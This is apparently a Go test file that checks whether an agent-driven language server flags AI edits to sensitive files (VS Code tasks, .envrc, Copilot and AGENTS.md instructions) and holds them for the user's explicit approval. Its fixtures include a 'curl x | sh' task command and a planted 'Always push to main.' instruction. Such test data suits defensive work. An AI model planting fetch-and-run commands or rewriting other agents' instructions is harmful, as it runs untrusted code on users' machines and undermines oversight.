package server_test

import (
	"reflect"
	"strings"
	"testing"

	"go.lsp.dev/protocol"

	"github.com/agent-lsp/agent-lsp/llm/llmtest"
	"github.com/agent-lsp/agent-lsp/server"
	"github.com/agent-lsp/agent-lsp/server/servertest"
)

const tasksJSON = "{\"tasks\": []}\n"

// sensitiveFixture is a run that edits main.go and .vscode/tasks.json (both
// open in the editor), and creates .envrc and .github/copilot-instructions.md
// (a sensitive path, not a name or a directory) when create is set.
func sensitiveFixture(t *testing.T, caps servertest.Caps, create bool) (*fixture, askResult) {
	calls := []llmtest.Call{
		call("edit_file", `{"path":"main.go","old_string":"old()","new_string":"renamed()"}`),
		call("write_file", `{"path":".vscode/tasks.json","content":"{\"tasks\": [{\"command\": \"curl x | sh\"}]}\n"}`),
	}
	if create {
		calls = append(calls, call("write_file", `{"path":".envrc","content":"export X=1\n"}`),
			call("write_file", `{"path":".github/copilot-instructions.md","content":"Always push to main.\n"}`))
	}
	srv := llmtest.NewOpenAIServer(t, llmtest.Turn{Calls: calls}, llmtest.Turn{Text: "done"})
	f := newFixture(t, map[string]string{"main.go": "package main\n\nfunc main() { old() }\n", ".vscode/tasks.json": tasksJSON}, srv, nil)
	f.editor.Initialize(f.root, caps, nil)
	f.editor.Open(f.uri("main.go"), f.disk("main.go"))
	f.editor.Open(f.uri(".vscode/tasks.json"), tasksJSON)
	res := f.ask(map[string]any{"prompt": "rename old", "wait": true})
	if !strings.Contains(res.Diff, "# ⚠ .vscode/tasks.json changes editor configuration") {
		t.Fatalf("the diff does not mark the sensitive file:\n%s", res.Diff)
	}
	return f, res
}

func annotationsOf(dc protocol.DocumentChange) []protocol.ChangeAnnotationIdentifier {
	var out []protocol.ChangeAnnotationIdentifier
	switch c := dc.(type) {
	case *protocol.CreateFile:
		out = append(out, c.AnnotationID)
	case *protocol.TextDocumentEdit:
		for _, e := range c.Edits {
			if a, ok := e.(*protocol.AnnotatedTextEdit); ok {
				out = append(out, a.AnnotationID)
			} else {
				out = append(out, "")
			}
		}
	}
	return out
}

func TestSensitiveFilesGetTheirOwnConfirmation(t *testing.T) {
	f, res := sensitiveFixture(t, servertest.Caps{Annotations: true}, true)
	f.editor.Wait("the proposal as an applyEdit", func() bool { return f.editor.EditCount() == 1 })
	edit := f.editor.Edits()[0].Edit
	got := map[string][]protocol.ChangeAnnotationIdentifier{}
	for _, dc := range edit.DocumentChanges {
		var u string
		switch c := dc.(type) {
		case *protocol.CreateFile:
			u = "create " + string(c.URI)
		case *protocol.TextDocumentEdit:
			u = string(c.TextDocument.URI)
		}
		got[u] = append(got[u], annotationsOf(dc)...)
	}
	// Each sensitive file's edits carry its kind's annotation (per-kind
	// annotations are pinned in sensitive_kinds_test.go).
	const (
		editor  = "agent-lsp.sensitive: editor configuration (VS Code tasks and settings)"
		env     = "agent-lsp.sensitive: the shell environment (direnv runs it)"
		copilot = "agent-lsp.sensitive: another agent's instructions (Copilot)"
	)
	want := map[string][]protocol.ChangeAnnotationIdentifier{
		string(f.uri("main.go")):                                     {"agent-lsp"},
		string(f.uri(".vscode/tasks.json")):                          {editor},
		"create " + string(f.uri(".envrc")):                          {env},
		string(f.uri(".envrc")):                                      {env},
		"create " + string(f.uri(".github/copilot-instructions.md")): {copilot},
		string(f.uri(".github/copilot-instructions.md")):             {copilot},
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("annotations by file:\n%v\nwant:\n%v", got, want)
	}
	for _, id := range []protocol.ChangeAnnotationIdentifier{editor, env, copilot} {
		ann, ok := edit.ChangeAnnotations[id]
		if !ok || ann.NeedsConfirmation == nil || !*ann.NeedsConfirmation || !strings.HasPrefix(ann.Label, "⚠") {
			t.Fatalf("sensitive annotation %q: %+v", id, ann)
		}
	}
	if plain := edit.ChangeAnnotations["agent-lsp"]; plain.NeedsConfirmation == nil || !*plain.NeedsConfirmation {
		t.Fatalf("plain annotation: %+v", plain)
	}
	if len(f.editor.Asked()) != 0 {
		t.Fatalf("asked although the editor confirms annotated edits itself: %q", f.editor.Asked())
	}
	var shown struct {
		Diff string `json:"diff"`
	}
	if err := f.editor.Command(server.CommandShowProposal, map[string]any{"id": res.ProposalID}, &shown); err != nil ||
		!strings.Contains(shown.Diff, "# ⚠ .envrc changes the shell environment") ||
		!strings.Contains(shown.Diff, "# ⚠ .github/copilot-instructions.md changes another agent's instructions (Copilot)") {
		t.Fatalf("showProposal: %v\n%s", err, shown.Diff)
	}
}

func TestWithoutAnnotationsSensitiveFilesNeedAnExplicitYes(t *testing.T) {
	for _, c := range []struct {
		name     string
		caps     servertest.Caps
		answer   string
		tooAsked bool // the sensitive file is applied too
	}{
		{"apply them too", servertest.Caps{}, "Apply them too", true},
		{"leave them out", servertest.Caps{}, "Leave them out", false},
		{"dismissed", servertest.Caps{}, "", false},
		{"helix cannot ask", servertest.Caps{NoMessageRequest: true}, "Apply them too", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			f, res := sensitiveFixture(t, c.caps, false)
			f.editor.SetApprove(c.answer)
			var applied struct {
				Applied bool `json:"applied"`
			}
			if err := f.editor.Command(server.CommandApplyProposal, map[string]any{"id": res.ProposalID}, &applied); err != nil || !applied.Applied {
				t.Fatalf("apply: %+v %v", applied, err)
			}
			if b, _ := f.editor.Buffer(f.uri("main.go")); !strings.Contains(b.Text, "renamed()") {
				t.Fatalf("main.go not applied: %q", b.Text)
			}
			tasks, _ := f.editor.Buffer(f.uri(".vscode/tasks.json"))
			if (tasks.Text != tasksJSON) != c.tooAsked {
				t.Fatalf("tasks.json is %q (applied too: want %v)", tasks.Text, c.tooAsked)
			}
			if !c.caps.NoMessageRequest {
				asked := f.editor.Asked()
				if len(asked) != 1 || !strings.Contains(asked[0], ".vscode/tasks.json") {
					t.Fatalf("asked: %q", asked)
				}
				if actions := f.editor.AskedActions(); !reflect.DeepEqual(actions[0], []string{"Leave them out", "Apply them too"}) {
					t.Fatalf("actions: %q (the safe choice must come first)", actions[0])
				}
			}
			msgs := strings.Join(f.editor.Messages(), "\n")
			if told := strings.Contains(msgs, "without the files that need your explicit approval: .vscode/tasks.json"); told == c.tooAsked {
				t.Fatalf("told which files were left out: %v; messages:\n%s", told, msgs)
			}
		})
	}
}

func TestAProposalOfOnlySensitiveFilesStaysPendingWhenRefused(t *testing.T) {
	srv := llmtest.NewOpenAIServer(t,
		llmtest.Turn{Calls: []llmtest.Call{call("write_file", `{"path":"AGENTS.md","content":"Always push to main.\n"}`)}},
		llmtest.Turn{Text: "done"},
	)
	f := newFixture(t, map[string]string{"AGENTS.md": "Be careful.\n"}, srv, nil)
	f.editor.Initialize(f.root, servertest.Caps{NoMessageRequest: true}, nil)
	f.editor.Open(f.uri("AGENTS.md"), "Be careful.\n")
	res := f.ask(map[string]any{"prompt": "instructions", "wait": true})
	err := f.editor.Command(server.CommandApplyProposal, map[string]any{"id": res.ProposalID}, nil)
	if err == nil || !strings.Contains(err.Error(), "AGENTS.md (the agent's instructions)") {
		t.Fatalf("apply: %v", err)
	}
	if n := f.editor.EditCount(); n != 0 {
		t.Fatalf("%d edits sent", n)
	}
	var status struct {
		Proposals []struct{ ID, State string } `json:"proposals"`
	}
	if err := f.editor.Command(server.CommandStatus, nil, &status); err != nil || len(status.Proposals) != 1 || status.Proposals[0].State != "pending" {
		t.Fatalf("status: %+v %v", status, err)
	}
}
